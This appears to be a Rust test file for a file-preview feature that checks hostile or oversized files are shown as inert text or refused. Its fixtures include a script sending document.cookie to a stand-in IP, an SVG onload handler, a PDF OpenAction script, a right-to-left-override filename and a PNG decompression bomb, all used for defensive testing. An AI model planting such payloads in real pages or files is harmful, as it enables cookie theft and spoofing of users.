//! Looking at files without opening them, hostile ones too: only what is shown is read, and nothing of it runs.

use tokio_util::sync::CancellationToken;
use waybill_desk::{DeskError, NoPreview, PageRequest, Preview, TextForm};
use waybill_model::{FailureKind, Location, Stamp};

use crate::home::Home;

async fn stamp_of(home: &Home, place: &Location) -> Stamp {
    let folder = Location { connection: place.connection, path: place.path.parent().unwrap() };
    let page = home.desk.list(&folder, PageRequest::default()).await.unwrap();
    page.entries.into_iter().find(|entry| entry.path == place.path).unwrap().stamp()
}

async fn look(home: &Home, name: &str, bytes: impl AsRef<[u8]>) -> Preview {
    home.write(name, bytes);
    let place = home.local(name);
    let stamp = stamp_of(home, &place).await;
    home.desk.preview(&place, &stamp, &CancellationToken::new()).await.unwrap()
}

#[tokio::test]
async fn hostile_files_leave_as_text_or_as_bytes_with_the_type_that_they_have() {
    let home = Home::resting().await;
    let page = "<html><script>fetch('https://203.0.113.9/'+document.cookie)</script></html>";
    let Preview::Text(page) = look(&home, "in/invoice.pdf", page).await else { panic!("a page is a text") };
    assert_eq!(page.form, TextForm::Page, "whatever its name says");
    let svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='http://203.0.113.9/x'/></svg>";
    let drawing = look(&home, "in/logo.png", svg).await;
    assert!(matches!(drawing, Preview::Picture { media_type: "image/svg+xml", .. }), "{drawing:?}");
    let pdf = "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n";
    assert!(matches!(look(&home, "in/a.txt", pdf).await, Preview::Pdf { .. }));
    let text = look(&home, "in/b.txt", "a\0b \u{202e}fdp.exe\n").await;
    assert!(matches!(text, Preview::Text(text) if text.text.contains('\u{202e}') && text.form == TextForm::Plain));
}

#[tokio::test]
async fn a_table_of_a_hundred_thousand_lines_is_read_to_its_limit_and_ends_with_a_whole_row() {
    let home = Home::resting().await;
    let row = "2026-11-21;4711;\"a; quoted\";19,95;EUR;open;none;north\n";
    let Preview::Text(table) = look(&home, "in/prices.csv", row.repeat(100_000)).await else { panic!("a table") };
    assert_eq!((table.form, table.encoding, table.guessed), (TextForm::Table, "UTF-8", false));
    assert!(table.read < row.len() as u64 * 100_000 && table.text.ends_with("north\n"), "{}", table.read);
    assert_eq!(table.read % row.len() as u64, 0);
}

#[tokio::test]
async fn what_cannot_be_shown_says_why() {
    let home = Home::resting().await;
    assert_eq!(look(&home, "in/empty.txt", "").await, Preview::Nothing(NoPreview::Empty));
    assert_eq!(look(&home, "in/a.zip", b"PK\x03\x04\0\0\0\0\0\0\xff\0").await, Preview::Nothing(NoPreview::Binary));
    let mut bomb = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    bomb.extend([0, 0, 0xff, 0xff, 0, 0, 0xff, 0xff, 8, 2, 0, 0, 0]);
    assert!(matches!(look(&home, "in/a.png", bomb).await, Preview::Nothing(NoPreview::TooManyPoints { .. })));
    home.write("in/large.svg", format!("<svg>{}", " ".repeat(5 << 20)));
    let large = home.local("in/large.svg");
    let seen = stamp_of(&home, &large).await;
    let preview = home.desk.preview(&large, &seen, &CancellationToken::new()).await.unwrap();
    assert!(matches!(preview, Preview::Nothing(NoPreview::TooLarge { .. })), "{preview:?}");
}

#[tokio::test]
async fn a_file_that_changed_since_it_was_seen_is_not_shown_as_it_was() {
    let home = Home::new().await;
    let there = home.s3("/in/a.txt").await;
    home.put(&there, b"before").await;
    let here = home.local("in/a.txt");
    home.write("in/a.txt", "before");
    for place in [there, here] {
        let seen = stamp_of(&home, &place).await;
        if place.connection.is_local() {
            home.write("in/a.txt", "after all");
        } else {
            home.put(&place, b"after!").await;
        }
        let error = home.desk.preview(&place, &seen, &CancellationToken::new()).await.unwrap_err();
        assert!(matches!(&error, DeskError::Connector(error) if error.kind == FailureKind::Changed), "{error}");
    }
}

#[tokio::test]
async fn whoever_moves_on_gets_nothing() {
    let home = Home::resting().await;
    home.write("in/a.txt", "text");
    let place = home.local("in/a.txt");
    let seen = stamp_of(&home, &place).await;
    let token = CancellationToken::new();
    token.cancel();
    assert!(home.desk.preview(&place, &seen, &token).await.is_err());
}
